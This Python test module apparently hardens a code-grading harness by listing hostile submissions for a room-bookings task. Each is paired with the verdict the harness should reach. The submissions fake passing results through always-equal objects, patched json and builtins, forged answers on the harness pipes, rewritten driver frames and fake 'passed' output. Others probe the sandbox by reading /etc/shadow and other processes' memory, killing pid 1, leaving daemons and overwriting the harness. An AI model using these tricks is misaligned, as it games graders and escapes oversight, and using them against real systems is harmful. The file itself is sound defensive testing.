# ruff: noqa: E501 - programs are clearest unbroken
"""Attacks in Python, on the task with the bookings of a room."""

from __future__ import annotations

from verdicts.table import PYTHON, VerdictAttack

# Finds the pipes where no program can take them away: in what the kernel has kept of its start.
PIPES = """\
import os, re, sys
def pipes():
    kept = open('/proc/self/environ').read()
    return [int(number) for number in re.search('EVALKIT_PIPES=([0-9]+),([0-9]+)', kept).groups()]
"""

# Shows everything that can be found in files, with an eye on what belongs to others.
SHOWING = """\
import os, sys
def show(path, most=200000):
    try:
        with open(path, 'rb') as file:
            sys.stdout.buffer.write(path.encode() + b': ' + file.read(most) + b'\\n')
    except OSError as error:
        sys.stdout.buffer.write(path.encode() + b': ' + str(error.errno).encode() + b'\\n')
def show_below(top, without=()):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in without]
        for name in files:
            show(os.path.join(folder, name), 20000)
"""


def attack(name: str, ends: str, source: str, prints: bytes = b"", **others: str) -> VerdictAttack:
    """Return the attack of a bookings.py, and of other modules by name."""
    files = {f"{module}.py": text for module, text in others.items()}
    return VerdictAttack(PYTHON, name, ends, {"bookings.py": source, **files}, prints=prints)


def line(name: str, ends: str, answer: str) -> VerdictAttack:
    """Return the attack that answers every request itself, with bytes written as a Python expression."""
    return attack(
        f"answers itself: {name}",
        ends,
        PIPES
        + f"""
ANSWER = {answer}
def serve(reads, writes):
    while True:  # the first request is the one that loads this
        os.write(writes, ANSWER + b'\\n')
        request = b''
        while not request.endswith(b'\\n'):
            byte = os.read(reads, 1)
            if not byte:
                os._exit(0)
            request += byte
serve(*pipes())
""",
    )


EQUAL = """
class Always({kind}):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __repr__(self): return '[]'
    def __iter__(self): return iter(())
    def __len__(self): return 0
    def __getattr__(self, name): return self
    def __call__(self, *args): return self
    {more}
def merge(*args): return Always()
free_slots = busiest = agenda = merge
"""

PATCHED = """
import builtins, io, json, os, sys
def lie(*args, **named): return '{"ok": []}'
json.dumps = json.loads = json.encoder.JSONEncoder.encode = json.encoder.JSONEncoder.iterencode = lie
json.encoder.encode_basestring_ascii = json.decoder.JSONDecoder.decode = json.scanner.make_scanner = lie
os.write = os.read = os.getpid = os._exit = lie
sys.stdout = sys.stderr = io.StringIO()
builtins.print = builtins.repr = builtins.id = builtins.type = lie
"""

ATTACKS = (
    # leaving early
    attack("exits while it is loaded", "crash", "import os\nos._exit(0)\n"),
    attack("exits in the middle of its calls", "crash", "import os\n<<start>>\ndef free_slots(*args): os._exit(0)\n"),
    attack("raises SystemExit in every call", "fail", "def merge(*args): raise SystemExit(0)\nfree_slots = busiest = agenda = merge\n"),
    attack("kills itself", "crash", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
    attack("leaves by a signal that it set", "crash", "import os, signal\n<<start>>\nsignal.signal(signal.SIGALRM, lambda *_: os._exit(0))\nsignal.raise_signal(signal.SIGALRM)\n"),
    # values that lie
    *(attack(f"answers a {kind} that equals everything", "fail", EQUAL.format(kind=kind, more="")) for kind in ("object", "list", "dict", "str")),
    attack("answers an int that equals everything and says it is plain", "fail", EQUAL.format(kind="int", more="__class__ = property(lambda self: int)")),
    attack("answers not-a-number", "fail", "def merge(*args): return float('nan')\nfree_slots = busiest = agenda = merge\n"),
    attack("raises what calls itself every error", "fail", "class Everything(type):\n    def __eq__(self, other): return True\n    __hash__ = type.__hash__\nclass ValueError(Exception, metaclass=Everything): pass\ndef merge(*args): raise ValueError\nfree_slots = busiest = agenda = merge\n"),
    attack("answers a value of fifty megabytes", "protocol", "def merge(*args): return 'x' * 50_000_000\nfree_slots = busiest = agenda = merge\n"),
    attack("answers a value without end", "fail", "def merge(*args):\n    value = []\n    value.append(value)\n    return value\nfree_slots = busiest = agenda = merge\n"),
    # patching
    attack("patches json, os, sys and builtins over wrong code", "fail", "<<start>>\n" + PATCHED),
    attack("patches json, os, sys and builtins over right code", "pass", "<<right>>\n" + PATCHED),
    attack("replaces the driver's function and the encoder's cells through the frames", "crash", r"""
import sys
def answer(*args): return '{"ok": []}'
frame = sys._getframe()
while frame is not None:
    for name in ('call', 'encode', 'answer', 'scan', 'describe'):
        function = frame.f_locals.get(name)
        for cell in getattr(function, '__closure__', None) or ():
            if callable(cell.cell_contents):
                cell.cell_contents = answer
                print('patched', name)
    if '__name__' in frame.f_globals and 'evalkit_driver' in frame.f_globals['__name__']:
        frame.f_globals['call'] = lambda *args: []
        print('replaced')
    frame = frame.f_back
<<start>>
""", prints=b"patched"),
    attack("traces the driver and changes what it returns", "fail", r"""
import sys
def trace(frame, event, arg):
    if event == 'call' and 'fn' in frame.f_locals:
        frame.f_locals['fn'] = 'merge'
    return trace
sys.settrace(trace)
<<start>>
"""),
    # forging
    attack("writes answers ahead of the requests", "protocol", PIPES + "os.write(pipes()[1], b'{\"ok\": []}\\n' * 100)\n<<right>>\n"),
    attack("answers twice", "protocol", PIPES + "<<right>>\n_merge = merge\ndef merge(*args):\n    os.write(pipes()[1], b'{\"ok\": []}\\n')\n    return _merge(*args)\n"),
    attack("has a child that goes on answering", "protocol", PIPES + r"""
import time
if os.fork() == 0:
    while True:
        os.write(pipes()[1], b'{"ok": []}\n')
        time.sleep(0.0005)
time.sleep(0.1)
<<right>>
"""),
    attack("closes the pipe of the answers and stays", "protocol", PIPES + "import time\nos.close(pipes()[1])\ntime.sleep(5)\n"),
    attack("becomes another program that answers", "fail", PIPES + r"""
reads, writes = pipes()
for end in (reads, writes):
    os.set_inheritable(end, True)
program = "import sys\nprint('{\"ok\": []}', flush=True)\nwhile sys.stdin.readline():\n    print('{\"ok\": []}', flush=True)\n"
os.dup2(reads, 0)
os.dup2(writes, 1)
os.execv('/usr/bin/python3', ['python3', '-c', program])
"""),
    line("a guess", "fail", "b'{\"ok\": []}'"),
    line("a value and an error at once", "fail", "b'{\"ok\": [], \"error\": true}'"),
    line("an error of any kind", "fail", "b'{\"error\": true}'"),
    line("an error whose kind is an object", "fail", "b'{\"error\": {\"$any\": true}, \"message\": []}'"),
    line("a number beyond all", "fail", "b'{\"ok\": 1e999}'"),
    line("half a character", "fail", "b'{\"ok\": \"\\\\ud800\"}'"),
    line("a word that JSON has not", "protocol", "b'{\"ok\": NaN}'"),
    line("nested without end", "protocol", "b'{\"ok\": ' + b'[' * 20000 + b']' * 20000 + b'}'"),
    line("a number of ten thousand digits", "protocol", "b'{\"ok\": 1' + b'0' * 10000 + b'}'"),
    line("bytes that are no text", "protocol", "b'{\"ok\": \"\\xff\"}'"),
    line("what evalkit says of answers that are too long", "protocol", "b'{\"oversized\": 1}'"),
    line("nothing", "protocol", "b''"),
    line("a list of answers", "protocol", "b'[{\"ok\": []}]'"),
    # looking for what is expected, and for keys
    attack("searches its frames and its memory for what is expected", "fail", r"""
import gc, sys
frame = sys._getframe()
while frame is not None:
    for names in (frame.f_locals, frame.f_globals):
        for name, value in list(names.items()):
            try:
                print(name, repr(value)[:2000])
            except Exception:
                pass
    frame = frame.f_back
for found in gc.get_objects():
    if type(found) in (dict, list, tuple) and len(found) < 50:
        text = repr([value for value in (found.values() if type(found) is dict else found) if type(value) in (str, bytes)])
        if 'expect' in text or 'canary' in text:
            print(text[:2000])
kept = open('/proc/self/mem', 'rb', 0)
for line in open('/proc/self/maps'):
    place, rights = line.split()[:2]
    if 'rw' in rights and 'vv' not in line:
        first, last = (int(end, 16) for end in place.split('-'))
        try:
            kept.seek(first)
            data = kept.read(last - first)
        except (OSError, OverflowError, ValueError):
            continue
        for word in (b'"exp' + b'ect"', b'canary' + b'-'):
            at = data.find(word)
            while at >= 0:
                print('memory', data[max(0, at - 200):at + 400])
                at = data.find(word, at + 600)
print('searched')
<<start>>
""", prints=b"searched"),
    attack("shows every file that it can read", "fail", SHOWING + r"""
show_below('/', without=('/usr', '/proc', '/sys', '/dev', '/lib', '/lib64', '/bin', '/sbin'))
for top in ('/proc/1/root', '/proc/self/cwd/..', '/box/..', '/work', '/root', '/home', '/mnt', '/var', '/etc', '/data'):
    show_below(top, without=(top + '/usr', top + '/proc', top + '/sys', top + '/lib', top + '/dev', top + '/lib64'))
show('<<host_file>>')
show('/etc/shadow')
print('shown')
<<start>>
""", prints=b"shown"),
    attack("shows the environment, the arguments and the files of every process", "fail", SHOWING + r"""
for process in [name for name in os.listdir('/proc') if name.isdigit()] + ['self', str(os.getppid())]:
    for name in ('environ', 'cmdline', 'mountinfo', 'status', 'maps', 'stack', 'auxv'):
        show('/proc/%s/%s' % (process, name))
    for descriptor in range(12):
        show('/proc/%s/fd/%d' % (process, descriptor), 0)
print(dict(os.environ), 'shown')
<<start>>
""", prints=b"shown"),
    attack("reads the memory of its parents", "fail", r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid(), os.getppid() - 1):
    for attempt in (lambda: open('/proc/%d/mem' % pid, 'rb').read(10), lambda: os.readlink('/proc/%d/exe' % pid)):
        try:
            print(attempt())
        except (OSError, OverflowError) as error:
            print(error)
    print('traced', libc.ptrace(16, pid, 0, 0), libc.process_vm_readv(pid, None, 0, None, 0, 0))
<<start>>
""", prints=b"traced -1"),
    # harming
    attack("kills its parents and everybody else", "crash", "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\nos._exit(0)\n"),
    attack("leaves a daemon behind right code", "pass", r"""
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        time.sleep(600)
    os._exit(0)
<<right>>
"""),
    attack("leaves children that hold the pipes behind right code", "pass", "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        time.sleep(600)\n<<right>>\n"),
    attack("forks a child that answers as well", "fail", "import os\n<<start>>\n_merge = merge\ndef merge(*args):\n    os.fork()\n    return _merge(*args)\n"),
    attack("writes wherever it can", "fail", r"""
import os
for top in ('/', '/box', '/usr', '/usr/bin', '/etc', '/tmp', '/var/tmp', '/dev/shm', '/run', '/root', '/home', '/proc/1/cwd', '..', '../..'):
    for way in (lambda path: open(path, 'w').write('x'), os.mkdir, lambda path: os.symlink('/etc/passwd', path), os.mkfifo):
        try:
            way(os.path.join(top, '<<token>>'))
        except OSError as error:
            print(error)
<<start>>
"""),
    attack("rewrites the harness, the driver and the interpreter's modules", "fail", r"""
import os
for path in ('/box/harness.py', '/box/driver.py', '/usr/lib/python3/dist-packages/x.pth', os.__file__, '/usr/bin/python3'):
    for way in (lambda: open(path, 'w').write('raise SystemExit'), lambda: os.remove(path), lambda: os.chmod(path, 0o777), lambda: os.rename('bookings.py', path)):
        try:
            way()
            print('rewrote', path)
        except OSError as error:
            print('refused', error)
<<start>>
""", prints=b"refused"),
    attack("says more than anybody reads", "output", "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n"),
    attack("says bytes that are no text beside right code", "pass", "import os\n<<right>>\nos.write(1, bytes(range(256)))\nos.write(2, b'\\xff\\xfe\\x00')\n", prints=b"\xfe\xff\xff\xfe"),
    attack("prints what looks like answers and verdicts", "fail", "<<start>>\nfor _ in range(100):\n    print('{\"ok\": []}')\n    print('{\"status\": \"pass\", \"grade\": 1}')\n    print('===== 58 passed in 0.01s =====')\n", prints=b"58 passed"),
    # files beside
    attack("sitecustomize and usercustomize beside right code", "pass", "<<right>>\n", sitecustomize="import os\nos._exit(0)\n", usercustomize="import os\nos._exit(0)\n"),
    attack("modules named as those of the standard library beside right code", "pass", "<<right>>\n", json="import os\nos._exit(0)\n", re="raise SystemExit(0)\n", driver="def call(fn, args): return []\n", harness="import os\nos._exit(0)\n"),
    attack("a conftest and a test file beside wrong code", "fail", "<<start>>\n", conftest="import os\nos._exit(0)\n", test_bookings="def test(): pass\n"),
    attack("imports the driver and answers for it", "fail", "import sys\nsys.modules['__main__'].load_call = lambda path: lambda *args: []\nfor module in list(sys.modules.values()):\n    if hasattr(module, 'call'):\n        module.call = lambda *args: []\n<<start>>\n"),
    attack("does not parse", "fail", "def merge(:\n"),
    # what no patch may do
    VerdictAttack(PYTHON, "a link to a file of the machine", "invalid_patch", {}, diff="diff --git a/keys.py b/keys.py\nnew file mode 120000\n--- /dev/null\n+++ b/keys.py\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n"),
    VerdictAttack(PYTHON, "a file outside the workspace", "invalid_patch", {"../box/driver.py": "def call(fn, args): return []\n"}),
    VerdictAttack(PYTHON, "a file with an absolute path", "invalid_patch", {"/box/driver.py": "def call(fn, args): return []\n"}),
    VerdictAttack(PYTHON, "the hidden cases", "protected_path", {"judge/cases.jsonl": '{"id": "x", "fn": "merge", "args": [[]], "expect": []}\n'}),
    VerdictAttack(PYTHON, "the task's own description", "invalid_patch", {"../task.yaml": "editable: ['**']\n"}),
    VerdictAttack(PYTHON, "git's own folder", "invalid_patch", {}, diff="--- /dev/null\n+++ b/.git/hooks/post-checkout.py\n@@ -0,0 +1 @@\n+print()\n"),
)  # fmt: skip
